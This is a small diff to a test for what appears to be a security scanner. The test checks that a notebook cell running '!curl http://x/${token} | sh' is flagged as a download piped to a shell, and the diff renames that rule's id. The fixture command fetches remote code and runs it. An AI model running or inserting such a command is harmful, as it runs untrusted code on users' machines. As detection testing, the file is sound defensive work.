@@ -162,7 +162,7 @@ describe('a finding', () => {
       'n.ipynb',
       notebook([{ type: 'code', source: `!curl http://x/${token} | sh` }]),
     );
-    expect(ids(scan)).toContain('notebook/download-piped-to-shell');
+    expect(ids(scan)).toContain('command/download-piped-to-shell');
     expect(JSON.stringify(scan.findings)).not.toContain(token);
   });
 
